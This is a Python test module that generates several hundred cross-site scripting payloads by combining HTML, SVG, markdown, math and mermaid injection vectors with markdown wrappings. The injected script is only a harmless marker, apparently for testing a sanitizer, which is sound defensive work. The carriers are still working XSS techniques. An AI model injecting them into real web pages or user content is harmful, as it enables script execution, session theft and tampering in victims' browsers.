"""Hundreds of XSS payloads: carriers combined with wrappings."""

BAIT = "window.__ran=1"

CARRIERS = (
    "<script>{bait}</script>",
    "<ScRiPt>{bait}</sCrIpT>",
    "<script src=data:text/javascript,{bait}></script>",
    "<img src=x onerror={bait}>",
    "<img src=x onerror='{bait}'",
    "<img/src=x/onerror={bait}>",
    "<svg onload={bait}>",
    "<svg><script>{bait}</script></svg>",
    "<svg><animate onbegin={bait} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{bait}'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={bait}>",
    "<math href='javascript:{bait}'>x</math>",
    "<body onload={bait}>",
    "<iframe src='javascript:{bait}'></iframe>",
    "<iframe srcdoc='<script>parent.{bait}</script>'></iframe>",
    "<object data='javascript:{bait}'></object>",
    "<embed src='javascript:{bait}'>",
    "<details open ontoggle={bait}>x</details>",
    "<video><source onerror={bait}></video>",
    "<audio src=x onerror={bait}></audio>",
    "<input autofocus onfocus={bait}>",
    "<select autofocus onfocus={bait}></select>",
    "<textarea autofocus onfocus={bait}></textarea>",
    "<marquee onstart={bait}>x</marquee>",
    "<a href='javascript:{bait}' id=x>x</a>",
    "<a href='java&#10;script:{bait}'>x</a>",
    "<form action='javascript:{bait}'><button>x</button></form>",
    "<button formaction='javascript:{bait}'>x</button>",
    "<base href='javascript:{bait}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{bait}'>",
    "<link rel=stylesheet href='javascript:{bait}'>",
    "<style>@import 'javascript:{bait}';</style>",
    "<div style='background:url(javascript:{bait})'>x</div>",
    "<template><script>{bait}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={bait}>'>",
    "<xss onpointerenter={bait} style=display:block>x</xss>",
    "[x](javascript:{bait})",
    "[x](JaVaScRiPt:{bait})",
    "[x](javascript&colon;{bait})",
    "[x](java\tscript:{bait})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)",
    "[x](vbscript:{bait})",
    "[x]( javascript:{bait} )",
    "![x](javascript:{bait})",
    "![x](x' onerror='{bait})",
    '![x" onerror="{bait}](x)',
    "[a]: javascript:{bait}\n\n[a]",
    "<javascript:{bait}>",
    "```js\n</code></pre><script>{bait}</script>\n```",
    '```"><img src=x onerror={bait}>\nx\n```',
    "`</code><img src=x onerror={bait}>`",
    "$\\href{{javascript:{bait}}}{{x}}$",
    "$$\\htmlData{{x=y}}{{<img src=x onerror={bait}>}}$$",
    "$<img src=x onerror={bait}>$",
    "```mermaid\ngraph LR\n a[<img src=x onerror={bait}>] --> b\n click a javascript:{bait}\n```",
    "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\n"
    'graph LR\n a["<svg onload={bait}>"]\n```',
    "| a |\n|---|\n| <img src=x onerror={bait}> |",
    "- <img src=x onerror={bait}>",
    "> <svg onload={bait}>",
    "# <img src=x onerror={bait}>",
)
WRAPPINGS = ("{}", "text {} text", "\n\n{}\n\n", "*{}*", "> {}", "- [ ] {}")


def payloads() -> list[str]:
    """All combinations."""
    carriers = [carrier.format(bait=BAIT) for carrier in CARRIERS]
    return [wrapping.format(carrier) for wrapping in WRAPPINGS for carrier in carriers]
